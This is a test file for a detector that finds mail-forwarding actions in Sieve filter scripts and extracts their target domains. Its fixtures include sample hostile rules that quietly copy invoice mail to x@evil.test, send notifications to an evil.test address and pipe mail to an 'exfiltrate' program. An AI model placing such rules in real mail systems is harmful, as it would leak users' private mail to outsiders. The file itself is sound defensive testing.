import { describe, expect, it } from 'vitest';
import { addressDomain, findForwardingActions, SieveSyntaxError } from './sieve-forwarding.js';

describe('finding forwarding actions in Sieve scripts', () => {
  it('finds redirect and redirect :copy with their targets and lines', () => {
    const script =
      'require ["copy"];\r\nredirect "boss@acme.test";\r\nif header :contains "subject" "invoice" {\r\n  redirect :copy "x@evil.test";\r\n}\r\n';
    expect(findForwardingActions(script)).toEqual([
      { kind: 'redirect', target: 'boss@acme.test', line: 2 },
      { kind: 'redirect_copy', target: 'x@evil.test', line: 4 },
    ]);
  });

  it('ignores comments, strings and tests that merely mention redirect', () => {
    const script = [
      '# redirect "hash@evil.test";',
      '/* redirect "bracket@evil.test";',
      '   still a comment */',
      'if header :contains "subject" "redirect \\"quoted@evil.test\\";" { fileinto "Junk"; }',
      'if anyof (header :is "x-redirect" "yes", address :domain "from" "redirect.test") { keep; }',
    ].join('\n');
    expect(findForwardingActions(script)).toEqual([]);
  });

  it('does not count vacation, even with an address in its text: body', () => {
    const script = [
      'require ["vacation"];',
      'vacation :days 7 :addresses ["sales@acme.test"] :from "sales@acme.test" text:',
      'I am away. Write to other@evil.test.',
      '..redirect "x@evil.test";',
      '.',
      ';',
    ].join('\r\n');
    expect(findForwardingActions(script)).toEqual([]);
  });

  it('reads multi-line and escaped strings as targets, and the address after tagged arguments', () => {
    const script = 'redirect :notify "success" :ret "hdrs" "fin\\"ance@evil.test";\nredirect text:\nmulti@evil.test\n.\n;\n';
    expect(findForwardingActions(script).map((a) => a.target)).toEqual(['fin"ance@evil.test', 'multi@evil.test']);
  });

  it('flags notify with a mailto: method and Dovecot pipe, not notify by other methods', () => {
    const script = [
      'require ["enotify", "vnd.dovecot.pipe"];',
      'notify :message "new mail" "mailto:watcher%40evil.test?subject=hi";',
      'notify "xmpp:someone@jabber.test";',
      'pipe "exfiltrate" ["--all"];',
    ].join('\n');
    expect(findForwardingActions(script)).toEqual([
      { kind: 'notify', target: 'watcher@evil.test', line: 2 },
      { kind: 'pipe', target: 'exfiltrate', line: 4 },
    ]);
  });

  it('keeps nested blocks straight (elsif/else)', () => {
    const script = 'if true { if false { stop; } elsif true { redirect "a@b.test"; } } else { redirect "c@d.test"; }';
    expect(findForwardingActions(script).map((a) => a.target)).toEqual(['a@b.test', 'c@d.test']);
  });

  it('refuses broken scripts instead of guessing', () => {
    expect(() => findForwardingActions('redirect "unterminated;')).toThrow(SieveSyntaxError);
    expect(() => findForwardingActions('/* never closed')).toThrow(SieveSyntaxError);
  });

  it('extracts the domain of plain addresses only', () => {
    expect(addressDomain('Boss@ACME.test')).toBe('acme.test');
    expect(addressDomain('<x@evil.test>')).toBe('evil.test');
    expect(addressDomain(['$', '{target}'].join(''))).toBeUndefined();
  });
});
